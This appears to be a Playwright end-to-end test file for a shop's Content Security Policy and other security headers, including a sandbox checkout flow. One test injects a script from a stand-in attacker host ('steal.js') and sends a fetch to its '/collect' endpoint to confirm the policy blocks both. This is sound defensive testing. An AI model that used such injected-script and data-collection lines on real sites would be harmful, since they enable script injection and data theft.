import { expect, test, type ConsoleMessage, type Page } from '@playwright/test';
import { firstItem } from '../lib/list';
import {
  addToCart,
  checkOut,
  codeFromOutbox,
  fixCurrency,
  gotoHydrated,
  sizeInStock,
  uniqueMobile,
  useOwnClientAddress,
} from './helpers';

/**
 * The security headers (docs/decisions/012-content-security-policy.md): on a
 * page, a product page, an API answer and a build file; and in real Chromium
 * with the policy on, a shopper goes from home to a product, the cart and a
 * card payment in the sandbox without one Content Security Policy or
 * Permissions Policy complaint, while a script or a request to another
 * origin is refused and no other site can frame the cart.
 */

const ORDER_PLACED_MESSAGE = 'Your Order Placed successfully, You get invoice over Mail/Whatsapp.';
const FIXED_HEADERS = {
  'x-content-type-options': 'nosniff',
  'x-frame-options': 'DENY',
  'referrer-policy': 'strict-origin-when-cross-origin',
  'cross-origin-opener-policy': 'same-origin-allow-popups',
};
const POLICY_COMPLAINT = /Content Security Policy|Permissions-Policy|securitypolicyviolation/i;

/** Every policy complaint of the page, from Chromium's console and from the securitypolicyviolation event. */
async function recordPolicyComplaints(page: Page): Promise<string[]> {
  const complaints: string[] = [];
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      console.warn(`securitypolicyviolation ${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
  page.on('console', (message: ConsoleMessage) => {
    if (POLICY_COMPLAINT.test(message.text())) complaints.push(message.text());
  });
  return complaints;
}

test.describe('security headers', () => {
  test('a page, a product page, an API answer and a build file carry the headers', async ({ request }) => {
    const product = await sizeInStock(request, 1);
    const pages = [await request.get('/'), await request.get(`/product/${product.productId}`)];
    for (const response of pages) {
      expect(response.status()).toBe(200);
      expect(response.headers()).toMatchObject(FIXED_HEADERS);
      const policy = response.headers()['content-security-policy'];
      expect(policy).toContain("default-src 'self'");
      expect(policy).toContain("frame-ancestors 'none'");
      expect(policy).toContain("object-src 'none'");
      expect(policy).not.toContain('unsafe-eval');
      expect(response.headers()['permissions-policy']).toContain('camera=()');
    }

    const api = await request.get('/api/get-all-category-list/');
    expect(api.status()).toBe(200);
    expect(api.headers()).toMatchObject({
      ...FIXED_HEADERS,
      'content-security-policy': "default-src 'none'; frame-ancestors 'none'",
    });

    const script = /<script src="(\/_next\/static\/[^"]+\.js)"/.exec(await firstItem(pages).text())?.[1];
    expect(script, 'a build script on the home page').toBeTruthy();
    const asset = await request.get(script ?? '');
    expect(asset.status()).toBe(200);
    expect(asset.headers()).toMatchObject(FIXED_HEADERS);
  });

  test('with the policy on, home, a product, the cart and a card payment raise no policy complaint', async ({
    page,
    context,
    request,
  }) => {
    const config = await (await request.get('/api/payments/config/')).json();
    expect(config.sandbox, 'the e2e server must run with the payment sandbox on').toBe(true);
    await useOwnClientAddress(context);
    await fixCurrency(context, 'USD');
    const complaints = await recordPolicyComplaints(page);
    const item = await sizeInStock(request, 1);

    const mobile = uniqueMobile('7');
    const signup = await request.post('/api/signup/', {
      data: {
        email: `headers${mobile}@example.com`,
        mobile_number: mobile,
        country_code: '+91',
        first_name: 'Meera',
        last_name: 'Rao',
      },
    });
    expect(signup.status()).toBe(201);

    await gotoHydrated(page, '/');
    await expect(page.getByRole('banner')).toBeVisible();

    await gotoHydrated(page, '/login');
    const login = page.getByRole('main');
    await login.getByLabel('Mobile number').fill(mobile);
    const asked = Date.now();
    await login.getByRole('button', { name: 'Login', exact: true }).click();
    await login.getByLabel('Enter the 6-digit code sent to your phone').fill(await codeFromOutbox(mobile, asked));
    await login.getByRole('button', { name: 'Login', exact: true }).click();
    await expect(page).toHaveURL(/\/$/);

    await addToCart(page, item);
    await checkOut(page, {
      item,
      mobile,
      method: 'card',
      delivery: { name: 'Meera Rao', delivery_address: '4 MI Road', pin_code: '302001' },
    });
    await expect(page.getByRole('status').filter({ hasText: ORDER_PLACED_MESSAGE })).toBeVisible();
    await page.waitForLoadState('networkidle');

    expect(complaints).toEqual([]);
  });

  test('the policy refuses a script and a request to another origin', async ({ page }) => {
    const complaints = await recordPolicyComplaints(page);
    await gotoHydrated(page, '/');
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.src = 'https://attacker.example/steal.js';
      document.head.appendChild(script);
      fetch('https://attacker.example/collect').catch(() => undefined);
    });
    await expect
      .poll(() => complaints.filter((text) => text.startsWith('securitypolicyviolation')).sort())
      .toEqual([
        'securitypolicyviolation connect-src https://attacker.example/collect',
        'securitypolicyviolation script-src-elem https://attacker.example/steal.js',
      ]);
  });

  test('no other site can frame the cart', async ({ page, baseURL }) => {
    const complaints = await recordPolicyComplaints(page);
    await page.setContent(`<iframe title="shop" src="${baseURL}/cart"></iframe>`);
    await expect.poll(() => complaints.join('\n')).toMatch(/frame-ancestors 'none'/);
    await expect(page.frameLocator('iframe').getByRole('banner')).toHaveCount(0);
  });
});
